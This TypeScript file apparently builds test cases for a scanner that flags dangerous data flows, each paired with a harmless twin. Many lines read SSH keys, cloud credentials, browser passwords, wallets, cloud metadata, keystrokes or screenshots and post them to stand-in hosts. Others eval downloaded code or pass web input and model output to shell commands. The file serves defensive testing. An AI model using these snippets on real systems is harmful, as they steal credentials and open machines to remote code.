import { type FlowCase, inFile, type Language } from './case.ts';

/** What a source is sent to, and what is said of it. */
interface Way {
  readonly rule: RegExp;
  /** Sends `x`, and something harmless in its place. */
  readonly send: Readonly<Record<Language, string>>;
}

const COLLECTOR = 'https://collect.example.invalid/in';
const DROP = 'https://webhook.site/0000-example';
const API = 'https://api.example.invalid/v1';

const post: Readonly<Record<Language, string>> = {
  python: `requests.post("${COLLECTOR}", data=«x¦"done"») ¶`,
  javascript: `fetch("${COLLECTOR}", { method: "POST", body: «x¦"done"» }); ¶`,
  shell: `curl -s --data-binary "«$x¦done»" ${COLLECTOR} ¶`,
};

/** Keys may be watched for shortcuts; a program that contacts anybody beside is taken for a logger. */
const shown: Readonly<Record<Language, string>> = {
  python: `«requests.post("${COLLECTOR}", data=x)¦print("done")» ¶`,
  javascript: `«fetch("${COLLECTOR}", { method: "POST", body: x })¦console.log("done")»; ¶`,
  shell: `«curl -s --data-binary "$x" ${COLLECTOR}¦echo done» ¶`,
};

/** A program's own key may be sent to the service that it is for, in a header. */
const drop: Readonly<Record<Language, string>> = {
  python: `requests.post(«"${DROP}", data=x¦"${API}", headers={"Authorization": "Bearer " + x}») ¶`,
  javascript: `fetch(«"${DROP}", { method: "POST", body: x }¦"${API}", { headers: { Authorization: "Bearer " + x } }»); ¶`,
  shell: `curl -s «--data "$x" ${DROP}¦-H "Authorization: Bearer $x" ${API}» ¶`,
};

const WAYS = {
  secret: { rule: /^secret-file-to-network$/, send: post },
  environment: { rule: /^environment-to-network$/, send: post },
  // A key that signs is a secret wherever it goes.
  credential: { rule: /^(?:credential-to-drop-host|secret-file-to-network)$/, send: drop },
  metadata: { rule: /^cloud-metadata-forwarded$/, send: post },
  clipboard: { rule: /^clipboard-to-network$/, send: post },
  screen: { rule: /^screen-to-network$/, send: post },
  keystrokes: { rule: /^keystrokes-to-network$/, send: shown },
  network: {
    rule: /^(?:downloaded-code-runs|socket-commands-run|downloaded-script-piped)$/,
    send: {
      python: 'exec(«x¦"done = 1"») ¶',
      javascript: 'new Function(«x¦"return 1"»)(); ¶',
      shell: 'eval "«$x¦true»" ¶',
    },
  },
  request: {
    rule: /^(?:eval-of-input|shell-text-from-outside)$/,
    send: {
      python: '    «os.system("convert " + x)¦subprocess.run(["convert", x])» ¶',
      javascript: '  «cp.exec("convert " + x)¦cp.execFile("convert", ["--", x])»; ¶',
      shell: '',
    },
  },
  model: {
    rule: /^model-output-in-command$/,
    send: {
      python: '«os.system(x)¦print(x)» ¶',
      javascript: '«cp.execSync(x)¦console.log(x)»; ¶',
      shell: '«eval "$x"¦printf "%s" "$x"» ¶',
    },
  },
} satisfies Readonly<Record<string, Way>>;

type Row = readonly [
  name: string,
  language: Language,
  way: keyof typeof WAYS,
  /** Lines that put the source into `x`. */
  lines: string,
];

const ROWS: readonly Row[] = [
  // Credential files
  [
    'SSH key',
    'python',
    'secret',
    'import os, requests\nx = open(os.path.expanduser("~/«.ssh/id_ed25519¦notes.txt»")).read() §',
  ],
  [
    'AWS keys',
    'python',
    'secret',
    'import requests\nfrom pathlib import Path\nx = (Path.home() / «".aws" / "credentials"¦"app" / "notes.txt"»).read_text() §',
  ],
  [
    '.netrc',
    'python',
    'secret',
    'import requests\nfrom pathlib import Path\nx = open(Path.home().joinpath("«.netrc¦notes.txt»")).read() §',
  ],
  [
    '.npmrc',
    'python',
    'secret',
    'import os, requests\nx = open(os.path.join(os.environ["HOME"], "«.npmrc¦notes.txt»"), "rb").read() §',
  ],
  [
    'cluster config',
    'python',
    'secret',
    'import requests\nfrom pathlib import Path\nx = Path(f"{Path.home()}/«.kube/config¦app/notes.txt»").read_bytes() §',
  ],
  [
    'registry logins',
    'python',
    'secret',
    'import os, json, requests\nx = json.load(open(os.getenv("HOME") + "/«.docker/config.json¦app/data.json»")) §',
  ],
  [
    'gcloud keys',
    'python',
    'secret',
    'import requests\nfrom pathlib import Path\nx = open("%s/«.config/gcloud/application_default_credentials.json¦app/notes.txt»" % Path.home()).read() §',
  ],
  [
    'git passwords',
    'python',
    'secret',
    'import os, requests\nx = open("{}/«.git-credentials¦notes.txt»".format(os.path.expanduser("~"))).readlines() §',
  ],
  [
    'SSH folder',
    'python',
    'secret',
    'import os, requests\nfolder = os.path.expanduser("~/«.ssh¦notes»")\nx = [open(os.path.join(folder, n)).read() for n in os.listdir(folder)] §',
  ],
  [
    'SSH keys by pattern',
    'python',
    'secret',
    'import glob, os, requests\nx = ""\nfor path in glob.glob(os.path.expanduser("~/«.ssh/id_*¦notes/*.txt»")): §\n    x += open(path).read()',
  ],
  [
    '.netrc by its module',
    'python',
    'credential',
    'import netrc, requests\nx = netrc.netrc().authenticators("api.example.invalid")[2] §',
  ],
  [
    'SSH key',
    'javascript',
    'secret',
    'const fs = require("fs"), os = require("os");\nconst x = fs.readFileSync(os.homedir() + "/«.ssh/id_rsa¦notes.txt»", "utf8"); §',
  ],
  [
    'AWS keys',
    'javascript',
    'secret',
    'import { readFile } from "node:fs/promises";\nimport { join } from "node:path";\nimport { homedir } from "node:os";\nconst x = await readFile(join(homedir(), «".aws", "credentials"¦"app", "notes.txt"»)); §',
  ],
  [
    '.netrc',
    'javascript',
    'secret',
    'const fs = require("fs");\nconst x = fs.readFileSync(`${process.env.HOME}/«.netrc¦notes.txt»`); §',
  ],
  [
    '.npmrc',
    'javascript',
    'secret',
    'const fs = require("fs"), path = require("path"), os = require("os");\nconst x = fs.readFileSync(path.resolve(os.homedir(), "«.npmrc¦notes.txt»")); §',
  ],
  [
    'cluster config',
    'javascript',
    'secret',
    'const { promises: fs } = require("fs");\n(async () => {\nconst x = await fs.readFile(process.env["HOME"] + "/«.kube/config¦app/notes.txt»", "utf8"); §',
  ],
  [
    'registry logins',
    'javascript',
    'secret',
    'const fs = require("fs-extra");\nconst x = fs.readJsonSync(require("os").homedir() + "/«.docker/config.json¦app/data.json»"); §',
  ],
  [
    'gcloud keys',
    'javascript',
    'secret',
    'const fs = require("fs");\nconst x = JSON.parse(fs.readFileSync("/root/«.config/gcloud/application_default_credentials.json¦app/data.json»")); §',
  ],
  [
    'git passwords',
    'javascript',
    'secret',
    'const fs = require("fs");\nconst x = fs.readFileSync("/root/«.git-credentials¦notes.txt»").toString("base64"); §',
  ],
  ['SSH key', 'shell', 'secret', 'x=$(cat ~/«.ssh/id_rsa¦notes.txt») §'],
  ['AWS keys', 'shell', 'secret', 'x=`base64 -w0 < "$HOME/«.aws/credentials¦app/notes.txt»"` §'],
  ['.netrc', 'shell', 'secret', 'x=$(grep password "${HOME}/«.netrc¦notes.txt»") §'],
  ['.npmrc', 'shell', 'secret', 'x=$(head -n 20 ~/«.npmrc¦notes.txt» | tr -d "\\n") §'],
  ['cluster config', 'shell', 'secret', 'x="$(<~/«.kube/config¦app/notes.txt»)" §'],
  ['registry logins', 'shell', 'secret', 'x=$(jq -c .auths ~/«.docker/config.json¦app/data.json») §'],
  [
    'gcloud keys',
    'shell',
    'secret',
    'read -r x < ~/«.config/gcloud/application_default_credentials.json¦app/notes.txt» §',
  ],
  ['git passwords', 'shell', 'secret', 'x=$(awk -F: "{print \\$3}" ~/«.git-credentials¦notes.txt») §'],

  // Environment
  [
    'whole environment',
    'python',
    'environment',
    'import os, json, requests\nx = json.dumps(dict(os.environ)) §',
  ],
  [
    'environment in a loop',
    'python',
    'environment',
    'import os, requests\nx = "\\n".join(f"{k}={v}" for k, v in os.environ.items()) §',
  ],
  [
    'environment by env',
    'python',
    'environment',
    'import subprocess, requests\nx = subprocess.check_output(["env"]) §',
  ],
  ['secret variable', 'python', 'credential', 'import os, requests\nx = os.environ["GITHUB_TOKEN"] §'],
  [
    'secret variable by getenv',
    'python',
    'credential',
    'import os, requests\nx = os.getenv("AWS_SECRET_ACCESS_KEY", "") §',
  ],
  [
    'secret variable by get',
    'python',
    'credential',
    'from os import environ as e\nimport requests\nx = e.get("OPENAI_API_KEY") §',
  ],
  ['whole environment', 'javascript', 'environment', 'const x = JSON.stringify(process.env); §'],
  [
    'environment in a loop',
    'javascript',
    'environment',
    'const x = Object.entries(process.env).map(([k, v]) => k + "=" + v).join(); §',
  ],
  [
    'environment spread',
    'javascript',
    'environment',
    'const { env } = process;\nconst x = JSON.stringify({ ...env, at: Date.now() }); §',
  ],
  ['secret variable', 'javascript', 'credential', 'const x = process.env.GITHUB_TOKEN; §'],
  ['secret variable taken out', 'javascript', 'credential', 'const { NPM_TOKEN: x } = process.env; §'],
  ['whole environment', 'shell', 'environment', 'x=$(env | base64 -w0) §'],
  ['environment by printenv', 'shell', 'environment', 'x=$(printenv) §'],
  ['exported variables', 'shell', 'environment', 'x=$(export -p) §'],
  ['secret variable', 'shell', 'credential', 'x="$GITHUB_TOKEN" §'],

  // Key rings
  ['key ring', 'python', 'credential', 'import keyring, requests\nx = keyring.get_password("mail", "me") §'],
  [
    'secret service',
    'python',
    'secret',
    'import secretstorage, requests\nx = [i.get_secret() for i in secretstorage.get_default_collection(secretstorage.dbus_init()).get_all_items()] §',
  ],
  [
    'key ring by secret-tool',
    'python',
    'secret',
    'import subprocess, requests\nx = subprocess.check_output(["secret-tool", "search", "--all", "xdg:schema", "chrome_libsecret_os_crypt_password_v2"]) §',
  ],
  [
    'key chain by security',
    'python',
    'secret',
    'import subprocess, requests\nx = subprocess.run(["security", "find-generic-password", "-wa", "Chrome"], capture_output=True).stdout §',
  ],
  [
    'key ring by keytar',
    'javascript',
    'credential',
    'const keytar = require("keytar");\nkeytar.findCredentials("mail").then((x) => { §',
  ],
  [
    'key chain by security',
    'javascript',
    'secret',
    'const cp = require("child_process");\nconst x = cp.execSync("security find-generic-password -s \'Chrome Safe Storage\' -w"); §',
  ],
  ['key ring by secret-tool', 'shell', 'secret', 'x=$(secret-tool lookup application chrome) §'],
  ['own entry of a key ring', 'shell', 'credential', 'x=$(secret-tool lookup service mail) §'],
  ['key chain by security', 'shell', 'secret', 'x=$(security find-generic-password -ga Chrome -w) §'],
  ['key chain dumped', 'shell', 'secret', 'x=$(security dump-keychain -d login.keychain) §'],

  // Browser stores
  [
    'passwords of Chrome',
    'python',
    'secret',
    'import sqlite3, requests\ndb = sqlite3.connect("/root/«.config/google-chrome/Default/Login Data¦app/places.db»") §\nx = str(db.execute("select a, b from t").fetchall())',
  ],
  [
    'copied passwords of Edge',
    'python',
    'secret',
    'import os, shutil, sqlite3, requests\nshutil.copy2(os.path.join(os.environ["LOCALAPPDATA"], «"Microsoft", "Edge", "User Data", "Default", "Login Data"¦"Notes", "notes.db"»), "/tmp/WORK.db") §\nx = str(sqlite3.connect("/tmp/WORK.db").cursor().execute("select * from logins").fetchall())',
  ],
  [
    'logins of Firefox',
    'python',
    'secret',
    'import glob, json, os, requests\nx = [json.load(open(p)) for p in glob.glob(os.path.expanduser("~/«.mozilla/firefox/*.default-release/logins.json¦app/*.json»"))] §',
  ],
  [
    'cookies by their package',
    'python',
    'secret',
    'import browser_cookie3, requests\nx = [(c.name, c.value) for c in «browser_cookie3.chrome(domain_name="bank.example")¦requests.get("https://bank.example").cookies»] §',
  ],
  [
    'web data of a beta',
    'python',
    'secret',
    'import os, requests\nx = open(os.path.expanduser("~/Library/Application Support/«Google/Chrome Beta/Default/Web Data¦Notes/Data/notes.db»"), "rb").read() §',
  ],
  [
    'passwords of Chrome',
    'javascript',
    'secret',
    'const fs = require("fs"), path = require("path");\nconst x = fs.readFileSync(path.join(process.env.LOCALAPPDATA, «"Google", "Chrome", "User Data", "Default", "Login Data"¦"Notes", "notes.db"»)); §',
  ],
  [
    'cookies by sqlite',
    'javascript',
    'secret',
    'const Database = require("better-sqlite3");\nconst db = new Database(require("os").homedir() + "/Library/Application Support/«Google/Chrome/Default/Cookies¦Notes/notes.db»"); §\nconst x = JSON.stringify(db.prepare("select a, b from t").all());',
  ],
  [
    'cookies of Firefox',
    'javascript',
    'secret',
    'const fs = require("fs"), os = require("os");\nconst base = os.homedir() + "/«.mozilla/firefox¦notes»";\nconst x = fs.readdirSync(base).map((p) => fs.readFileSync(base + "/" + p + "/«cookies.sqlite¦notes.txt»", "base64")).join(); §',
  ],
  [
    'passwords of Chrome',
    'shell',
    'secret',
    'x=$(sqlite3 "$HOME/«.config/google-chrome/Default/Login Data¦app/places.db»" "select * from logins") §',
  ],
  ['packed profile of Firefox', 'shell', 'secret', 'x=$(tar czf - ~/«.mozilla/firefox¦notes» | base64) §'],

  // Wallets
  [
    'Bitcoin wallet',
    'python',
    'secret',
    'import os, requests\nx = open(os.path.expanduser("~/«.bitcoin/wallet.dat¦notes.txt»"), "rb").read() §',
  ],
  [
    'Exodus',
    'python',
    'secret',
    'import os, requests\nx = open(os.path.join(os.getenv("APPDATA"), «"Exodus", "exodus.wallet", "seed.seco"¦"Notes", "notes.txt"»), "rb").read() §',
  ],
  [
    'key store of a node',
    'python',
    'secret',
    'import requests\nfrom pathlib import Path\nx = [p.read_text() for p in Path.home().glob("«.ethereum/keystore/*¦notes/*.txt»")] §',
  ],
  [
    'browser wallet',
    'python',
    'secret',
    'import os, requests\nroot = os.path.expanduser("~/«.config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn¦notes»")\nx = b""\nfor folder, _, names in os.walk(root): §\n    for name in names:\n        x += open(os.path.join(folder, name), "rb").read()',
  ],
  [
    'Solana key',
    'javascript',
    'secret',
    'const fs = require("fs");\nconst x = fs.readFileSync(require("os").homedir() + "/«.config/solana/id.json¦app/data.json»", "utf8"); §',
  ],
  [
    'Atomic',
    'javascript',
    'secret',
    'const fs = require("fs"), path = require("path");\nconst x = fs.readFileSync(path.join(process.env.APPDATA, «"atomic", "Local Storage", "leveldb", "000003.log"¦"notes", "notes.log"»)); §',
  ],
  ['Electrum', 'shell', 'secret', 'x=$(base64 ~/«.electrum/wallets/default_wallet¦notes.txt») §'],

  // Metadata
  [
    'metadata of EC2',
    'python',
    'metadata',
    'import requests\nx = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/app").text §',
  ],
  [
    'metadata of Google',
    'python',
    'metadata',
    'import requests, urllib.request\nr = urllib.request.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"})\nx = urllib.request.urlopen(r).read() §',
  ],
  [
    'metadata of a container',
    'python',
    'metadata',
    'import os, requests\nx = requests.get("http://169.254.170.2" + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]).json() §',
  ],
  [
    'metadata by number',
    'python',
    'metadata',
    'import requests\nx = requests.get("http://2852039166/latest/meta-data/").text §',
  ],
  [
    'metadata of Alibaba',
    'javascript',
    'metadata',
    '(async () => {\nconst x = await (await fetch("http://100.100.100.200/latest/meta-data/ram/security-credentials/app")).text(); §',
  ],
  [
    'metadata over IPv6',
    'javascript',
    'metadata',
    '(async () => {\nconst { data: x } = await require("axios").get("http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/app"); §',
  ],
  [
    'metadata of EC2',
    'shell',
    'metadata',
    'x=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app) §',
  ],
  [
    'metadata of Google',
    'shell',
    'metadata',
    'x=$(wget -qO- --header "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/project/) §',
  ],

  // Clipboard
  ['pyperclip', 'python', 'clipboard', 'import pyperclip, requests\nx = pyperclip.paste() §'],
  ['tkinter', 'python', 'clipboard', 'import tkinter as tk, requests\nx = tk.Tk().clipboard_get() §'],
  [
    'win32clipboard',
    'python',
    'clipboard',
    'import win32clipboard as w, requests\nw.OpenClipboard()\nx = w.GetClipboardData(w.CF_UNICODETEXT) §',
  ],
  ['pbpaste', 'python', 'clipboard', 'import subprocess, requests\nx = subprocess.check_output("pbpaste") §'],
  [
    'clipboardy',
    'javascript',
    'clipboard',
    'import clipboardy from "clipboardy";\nconst x = await clipboardy.read(); §',
  ],
  ['clipboard of a browser', 'javascript', 'clipboard', 'navigator.clipboard.readText().then((x) => { §'],
  [
    'clipboard of Electron',
    'javascript',
    'clipboard',
    'const { clipboard } = require("electron");\nconst x = clipboard.readText(); §',
  ],
  ['xclip', 'shell', 'clipboard', 'x=$(xclip -selection clipboard -o) §'],
  ['xsel', 'shell', 'clipboard', 'x=$(xsel --clipboard --output) §'],
  ['pbpaste', 'shell', 'clipboard', 'x=$(pbpaste) §'],
  ['wl-paste', 'shell', 'clipboard', 'x=$(wl-paste) §'],

  // Screen
  [
    'ImageGrab',
    'python',
    'screen',
    'import io, requests\nfrom PIL import ImageGrab\nheld = io.BytesIO()\nImageGrab.grab().save(held, "PNG") §\nx = held.getvalue()',
  ],
  [
    'mss',
    'python',
    'screen',
    'import mss, mss.tools, requests\nwith mss.mss() as camera:\n    shot = camera.grab(camera.monitors[0]) §\nx = mss.tools.to_png(shot.rgb, shot.size)',
  ],
  [
    'pyautogui',
    'python',
    'screen',
    'import pyautogui, requests\npyautogui.screenshot("/tmp/WORK.png") §\nx = open("/tmp/WORK.png", "rb")',
  ],
  [
    'scrot',
    'python',
    'screen',
    'import subprocess, requests\nsubprocess.run(["scrot", "/tmp/WORK.png"]) §\nx = open("/tmp/WORK.png", "rb").read()',
  ],
  [
    'desktop screenshot',
    'javascript',
    'screen',
    'const screenshot = require("screenshot-desktop");\nscreenshot({ format: "png" }).then((x) => { §',
  ],
  [
    'desktop capture',
    'javascript',
    'screen',
    'const { desktopCapturer } = require("electron");\ndesktopCapturer.getSources({ types: ["screen"] }).then((s) => { §\nconst x = s[0].thumbnail.toPNG();',
  ],
  ['screencapture', 'shell', 'screen', 'screencapture -x /tmp/WORK.png §\nx=$(base64 /tmp/WORK.png)'],
  ['scrot', 'shell', 'screen', 'scrot /tmp/WORK.png §\nx=$(base64 /tmp/WORK.png)'],
  ['import of ImageMagick', 'shell', 'screen', 'x=$(import -window root png:- | base64) §'],

  // Keystrokes
  [
    'pynput',
    'python',
    'keystrokes',
    'import requests\nfrom pynput import keyboard\nx = ""\ndef pressed(key):\n    global x\n    x += str(key)\nkeyboard.Listener(on_press=pressed).start() §',
  ],
  ['keyboard', 'python', 'keystrokes', 'import keyboard, requests\nx = keyboard.record(until="esc") §'],
  [
    'iohook',
    'javascript',
    'keystrokes',
    'const iohook = require("iohook");\nlet x = "";\niohook.on("keydown", (event) => { x += event.keychar; }); §',
  ],
  [
    'uiohook',
    'javascript',
    'keystrokes',
    'const { uIOhook } = require("uiohook-napi");\nconst x = [];\nuIOhook.on("keydown", (e) => x.push(e.keycode)); §',
  ],
  [
    'key listener',
    'javascript',
    'keystrokes',
    'const { GlobalKeyboardListener } = require("node-global-key-listener");\nconst x = [];\nnew GlobalKeyboardListener().addListener((e) => x.push(e.name)); §',
  ],
  ['xinput', 'shell', 'keystrokes', 'x=$(timeout 60 xinput test 8) §'],

  // Network input
  [
    'requests',
    'python',
    'network',
    'import requests\nx = requests.get("https://cdn.example.invalid/p").text §',
  ],
  [
    'a session',
    'python',
    'network',
    'import requests\nwith requests.Session() as s:\n    x = s.get("https://cdn.example.invalid/p").content §',
  ],
  [
    'urlopen',
    'python',
    'network',
    'from urllib.request import urlopen\nx = urlopen("https://cdn.example.invalid/p").read().decode() §',
  ],
  [
    'http.client',
    'python',
    'network',
    'import http.client\nc = http.client.HTTPSConnection("cdn.example.invalid")\nc.request("GET", "/p")\nx = c.getresponse().read() §',
  ],
  ['httpx', 'python', 'network', 'import httpx\nx = httpx.get("https://cdn.example.invalid/p").text §'],
  [
    'aiohttp',
    'python',
    'network',
    'import aiohttp, asyncio\nasync def load():\n    async with aiohttp.ClientSession() as s:\n        async with s.get("https://cdn.example.invalid/p") as r: §\n            return await r.text()\nx = asyncio.run(load())',
  ],
  [
    'socket',
    'python',
    'network',
    'import socket\ns = socket.create_connection(("cdn.example.invalid", 443))\nx = s.recv(4096).decode() §',
  ],
  [
    'websocket',
    'python',
    'network',
    'import asyncio, websockets\nasync def load():\n    async with websockets.connect("wss://cdn.example.invalid") as w:\n        return await w.recv() §\nx = asyncio.run(load())',
  ],
  [
    'fetch',
    'javascript',
    'network',
    'const x = await (await fetch("https://cdn.example.invalid/p")).text(); §',
  ],
  [
    'axios',
    'javascript',
    'network',
    'const axios = require("axios");\naxios.get("https://cdn.example.invalid/p").then(({ data: x }) => { §',
  ],
  [
    'EventSource',
    'javascript',
    'network',
    'const events = new EventSource("https://cdn.example.invalid/p"); §\nevents.onmessage = ({ data: x }) => {',
  ],
  [
    'WebSocket.onmessage',
    'javascript',
    'network',
    'const socket = new WebSocket("wss://cdn.example.invalid/p");\nsocket.onmessage = ({ data: x }) => { §',
  ],
  [
    'XMLHttpRequest',
    'javascript',
    'network',
    'const r = new XMLHttpRequest();\nr.open("GET", "https://cdn.example.invalid/p");\nr.onload = () => {\nconst x = `${r.responseText}`; §',
  ],
  [
    'http.get',
    'javascript',
    'network',
    'const http = require("http");\nhttp.get("http://cdn.example.invalid/p", (r) => { §\nlet x = "";\nr.on("data", (d) => (x += d));\nr.on("end", () => {',
  ],
  [
    'net',
    'javascript',
    'network',
    'const net = require("net");\nconst s = net.connect(443, "cdn.example.invalid"); §\ns.on("data", (d) => {\nconst x = d.toString();',
  ],
  [
    'ws',
    'javascript',
    'network',
    'const WebSocket = require("ws");\nconst w = new WebSocket("wss://cdn.example.invalid");\nw.on("message", (x) => { §',
  ],
  ['curl', 'shell', 'network', 'x=$(curl -s https://cdn.example.invalid/p) §'],
  ['wget', 'shell', 'network', 'x=`wget -qO- https://cdn.example.invalid/p` §'],
  ['nc', 'shell', 'network', 'x=$(nc cdn.example.invalid 443) §'],
  [
    'route of Flask',
    'python',
    'request',
    'import os, subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route("/c")\ndef convert():\n    x = request.args.get("name") §',
  ],
  [
    'route of FastAPI',
    'python',
    'request',
    'import os, subprocess\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get("/c")\ndef convert(x: str): §',
  ],
  [
    'view of Django',
    'python',
    'request',
    'import os, subprocess\nfrom django.http import HttpRequest\ndef convert(request: HttpRequest):\n    x = request.GET["name"] §',
  ],
  [
    'handler of http.server',
    'python',
    'request',
    'import os, subprocess\nfrom http.server import BaseHTTPRequestHandler\nclass Handler(BaseHTTPRequestHandler):\n  def do_GET(self):\n    x = self.path',
  ],
  [
    'route of aiohttp',
    'python',
    'request',
    'import os, subprocess\nfrom aiohttp import web\nasync def convert(request): §\n    x = request.query["name"]',
  ],
  [
    'route of Express',
    'javascript',
    'request',
    'const cp = require("child_process");\nconst app = require("express")();\napp.get("/c", (req, res) => { §\n  const x = req.query.name;',
  ],
  [
    'route of Fastify',
    'javascript',
    'request',
    'const cp = require("child_process");\nconst app = require("fastify")();\napp.get("/c", async (request) => { §\n  const { name: x } = request.query;',
  ],
  [
    'server of http',
    'javascript',
    'request',
    'const cp = require("child_process");\nrequire("http").createServer((req, res) => { §\n  const x = decodeURIComponent(req.url);',
  ],
  [
    'route of Koa',
    'javascript',
    'request',
    'const cp = require("child_process");\nconst Koa = require("koa");\nconst app = new Koa();\napp.use(async (ctx) => { §\n  const x = ctx.query.name;',
  ],
  [
    'route of Hono',
    'javascript',
    'request',
    'import cp from "node:child_process";\nimport { Hono } from "hono";\nconst app = new Hono();\napp.get("/c", (c) => { §\n  const x = c.req.query("name");',
  ],

  // Model output
  [
    'openai',
    'python',
    'model',
    'import os\nfrom openai import OpenAI\nr = OpenAI().chat.completions.create(model="m", messages=[]) §\nx = r.choices[0].message.content',
  ],
  [
    'openai responses',
    'python',
    'model',
    'import os, openai\nx = openai.OpenAI().responses.create(model="m", input="a").output_text §',
  ],
  [
    'anthropic',
    'python',
    'model',
    'import os, anthropic\nx = anthropic.Anthropic().messages.create(model="m", max_tokens=9, messages=[]).content[0].text §',
  ],
  [
    'litellm',
    'python',
    'model',
    'import os, litellm\nx = litellm.completion(model="m", messages=[])["choices"][0]["message"]["content"] §',
  ],
  [
    'langchain',
    'python',
    'model',
    'import os\nfrom langchain_openai import ChatOpenAI\nx = ChatOpenAI(model="m").invoke("a").content §',
  ],
  [
    'ollama',
    'python',
    'model',
    'import os, ollama\nx = ollama.chat(model="m", messages=[])["message"]["content"] §',
  ],
  [
    'google',
    'python',
    'model',
    'import os\nfrom google import genai\nx = genai.Client().models.generate_content(model="m", contents="a").text §',
  ],
  [
    'transformers',
    'python',
    'model',
    'import os\nfrom transformers import pipeline\nx = pipeline("text-generation")("a")[0]["generated_text"] §',
  ],
  [
    'openai',
    'javascript',
    'model',
    'import OpenAI from "openai";\nimport cp from "node:child_process";\nconst r = await new OpenAI().chat.completions.create({ model: "m", messages: [] }); §\nconst x = r.choices[0].message.content;',
  ],
  [
    'anthropic',
    'javascript',
    'model',
    'import Anthropic from "@anthropic-ai/sdk";\nimport cp from "node:child_process";\nconst client = new Anthropic();\nconst r = await client.messages.create({ model: "m", max_tokens: 9, messages: [] }); §\nconst x = r.content[0].text;',
  ],
  [
    'ai',
    'javascript',
    'model',
    'import { generateText } from "ai";\nimport cp from "node:child_process";\nconst { text: x } = await generateText({ model, prompt: "a" }); §',
  ],
  [
    'langchain',
    'javascript',
    'model',
    'const cp = require("child_process");\nconst { ChatOpenAI } = require("@langchain/openai");\n(async () => {\nconst x = (await new ChatOpenAI().invoke("a")).content; §',
  ],
  [
    'ollama',
    'javascript',
    'model',
    'import ollama from "ollama";\nimport cp from "node:child_process";\nconst x = (await ollama.chat({ model: "m", messages: [] })).message.content; §',
  ],
  ['llm', 'shell', 'model', 'x=$(llm "a command that lists files") §'],
  ['claude', 'shell', 'model', 'x=$(claude -p "a command that lists files") §'],
  ['ollama', 'shell', 'model', 'x=$(ollama run m "a command that lists files") §'],
];

/** Blocks that a table's lines leave open. */
function closing(lines: string): readonly string[] {
  if (!/[{(]\s*§?$|=> \{|async \(\) => \{/.test(lines)) return [];
  const open: string[] = [];
  for (const [character] of lines.matchAll(/[(){}]/g)) {
    if (character === '(') open.push(')');
    else if (character === '{') open.push('}');
    else open.pop();
  }
  const isCalled = lines.includes('(async () => {');
  return [`${open.reverse().join('')}${isCalled ? '()' : ''};`];
}

export const SOURCES: readonly FlowCase[] = [
  ...ROWS.map(([name, language, way, lines]) => {
    const { rule, send } = WAYS[way];
    // Where the source itself has a twin, that is sent in the same way.
    const last = lines.includes('«') ? send[language].replace(/«([^¦]*)¦[^»]*»/g, '$1') : send[language];
    const body = [...lines.split('\n'), last, ...(language === 'javascript' ? closing(lines) : [])];
    return inFile(language, `${way}: ${name}`, rule, body);
  }),
];

export const LIFECYCLE: readonly FlowCase[] = [
  inFile('python', 'action: step of an environment', /^action-runs-as-code$/, [
    'import os',
    'import gymnasium as gym',
    'class Shell(gym.Env):',
    '    def reset(self, *, seed=None, options=None):',
    '        super().reset(seed=seed)',
    '        return 0, {}',
    '    def step(self, action): §',
    '        «os.system(action)¦self.at = int(action)» ¶',
    '        return 0, 0.0, False, False, {}',
  ]),
  inFile('python', 'observation: what an environment answers', /^model-output-in-command$/, [
    'import os',
    'import gymnasium as gym',
    'env = gym.make("Shell-v0")',
    'env.reset()',
    'observation, reward, done, cut, info = env.step(0) §',
    '«os.system(observation["text"])¦print(observation["text"])» ¶',
  ]),
];
